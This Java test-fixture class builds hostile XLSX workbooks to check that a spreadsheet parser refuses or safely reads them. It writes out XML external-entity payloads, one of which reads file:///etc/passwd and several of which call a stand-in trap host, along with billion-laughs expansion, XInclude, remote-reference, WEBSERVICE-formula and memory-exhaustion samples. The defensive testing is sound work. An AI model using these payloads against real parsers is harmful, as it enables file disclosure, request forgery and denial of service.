package org.heatwatch.service.platform.spreadsheet;

import static org.heatwatch.service.platform.spreadsheet.HostileFile.read;
import static org.heatwatch.service.platform.spreadsheet.HostileFile.refused;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.DAMAGED;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.EMPTY;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.SUSPICIOUS;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.TOO_MUCH_UNPACKED;
import static org.heatwatch.service.platform.spreadsheet.WorkbookFile.aRoster;
import static org.heatwatch.service.platform.spreadsheet.WorkbookFile.relation;
import static org.heatwatch.service.platform.spreadsheet.WorkbookFile.relations;
import static org.heatwatch.service.platform.spreadsheet.WorkbookFile.rosterSheet;

import java.util.ArrayList;
import java.util.List;

/** Workbooks whose XML wants to open something, or to fill the memory of whoever parses it. */
final class HostileMarkup {

    private static final String SHEET = "xl/worksheets/sheet1.xml";

    private HostileMarkup() {
    }

    static List<HostileFile> all(String trap) {
        List<HostileFile> files = new ArrayList<>(declarations(trap));
        files.addAll(targets(trap));
        files.addAll(bulk());
        return files;
    }

    private static List<HostileFile> declarations(String trap) {
        String external = "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://%s/e'>]>".formatted(trap);
        String laughs = "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]>";
        return List.of(
                refused("external-entity.xlsx", SUSPICIOUS, sheet(external + rosterSheet().replace("Ana Ruiz", "&e;"))),
                refused("entity-that-is-a-file.xlsx", SUSPICIOUS, sheet("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
                        + rosterSheet().replace("Ana Ruiz", "&e;"))),
                refused("parameter-entity.xlsx", SUSPICIOUS,
                        sheet("<!DOCTYPE x [<!ENTITY %% p SYSTEM 'http://%s/p'> %%p;]>".formatted(trap) + rosterSheet())),
                refused("external-doctype.xlsx", SUSPICIOUS, sheet("<!DOCTYPE x SYSTEM 'http://%s/d'>".formatted(trap) + rosterSheet())),
                refused("billion-laughs.xlsx", SUSPICIOUS, sheet(laughs + rosterSheet().replace("Ana Ruiz", "&c;"))),
                refused("doctype-in-relations.xlsx", SUSPICIOUS, aRoster().with("_rels/.rels",
                        external + relations(relation("rId1", "officeDocument", "xl/workbook.xml")))::writeTo),
                refused("doctype-in-content-types.xlsx", SUSPICIOUS,
                        aRoster().with("[Content_Types].xml", external + "<Types/>")::writeTo),
                refused("doctype-where-nobody-reads.xlsx", SUSPICIOUS, aRoster().with("docProps/core.xml", external + "<x/>")::writeTo));
    }

    private static List<HostileFile> targets(String trap) {
        String address = "http://" + trap + "/";
        String outside = "<Relationship Id='%s' Type='x/%s' Target='" + address + "%s' TargetMode='External'/>";
        String sound = relation("rId1", "worksheet", "worksheets/sheet1.xml");
        return List.of(
                refused("sheet-elsewhere.xlsx", EMPTY, aRoster()
                        .with("xl/_rels/workbook.xml.rels", relations(outside.formatted("rId1", "worksheet", "sheet")))::writeTo),
                refused("sheet-elsewhere-unmarked.xlsx", DAMAGED, aRoster()
                        .with("xl/_rels/workbook.xml.rels", relations(relation("rId1", "worksheet", address + "sheet.xml")))::writeTo),
                refused("sheet-on-a-share.xlsx", DAMAGED, aRoster()
                        .with("xl/_rels/workbook.xml.rels", relations(relation("rId1", "worksheet", "//" + trap + "/sheet.xml")))::writeTo),
                read("links-everywhere.xlsx", aRoster()
                        .with("xl/_rels/workbook.xml.rels", relations(sound + outside.formatted("rId7", "externalLink", "link.xlsx")
                                + outside.formatted("rId8", "attachedTemplate", "template.xltx")))
                        .with("xl/connections.xml", "<connections><connection><webPr url='" + address + "'/></connection></connections>")::writeTo),
                read("schema-and-stylesheet-elsewhere.xlsx", sheet("<?xml version='1.0'?><?xml-stylesheet href='" + address + "x.xsl'?>"
                        + rosterSheet().replace("<worksheet ", "<worksheet xmlns:i='http://www.w3.org/2001/XMLSchema-instance' "
                        + "i:schemaLocation='x " + address + "x.xsd' i:noNamespaceSchemaLocation='" + address + "y.xsd' "))),
                read("inclusion.xlsx", sheet(rosterSheet().replace("<sheetData>",
                        "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='" + address + "'/><sheetData>"))),
                read("formula-that-calls.xlsx", sheet(rosterSheet().replace("</row></sheetData>", "<c r='C2' t='str'><f>WEBSERVICE(\""
                        + address + "\")</f></c></row></sheetData><hyperlinks><hyperlink ref='A2' location='" + address + "'/></hyperlinks>"))));
    }

    private static List<HostileFile> bulk() {
        String pattern = "[y]m.d-h:s/".repeat(22);
        return List.of(
                refused("nested-a-hundred-thousand-deep.xlsx", DAMAGED,
                        aRoster().withRepeatedRows("<a#>".replace("#", ""), 100_000)::writeTo),
                refused("ever-new-names.xlsx", DAMAGED, aRoster().withRepeatedRows("<n#/>", 100_000)::writeTo),
                refused("tag-without-an-end.xlsx", SUSPICIOUS, sheet("<worksheet><sheetData><row r='" + "1".repeat(1 << 20))),
                refused("ten-thousand-attributes.xlsx", DAMAGED, aRoster().withRepeated(SHEET, "<worksheet ", "a#='' ", 10_001, "/>")::writeTo),
                refused("gigantic-styles.xlsx", TOO_MUCH_UNPACKED, aRoster().withRepeated("xl/styles.xml", "<styleSheet>",
                        "<numFmt numFmtId='#' formatCode='0.00'/>", 500_000, "</styleSheet>")::writeTo),
                read("slow-number-formats.xlsx", aRoster().withRepeated("xl/styles.xml", "<styleSheet><cellXfs>",
                        "<numFmt numFmtId='#' formatCode='" + pattern + "q'/><xf numFmtId='#'/>", 50_000, "</cellXfs></styleSheet>")::writeTo),
                read("styles-that-refer-to-themselves.xlsx", aRoster().withStyles("<cellStyleXfs><xf xfId='0'/></cellStyleXfs>"
                        + "<cellXfs><xf xfId='1' numFmtId='0'/><xf xfId='0' numFmtId='0'/></cellXfs>")::writeTo));
    }

    private static HostileFile.Content sheet(String xml) {
        return aRoster().with(SHEET, xml)::writeTo;
    }
}
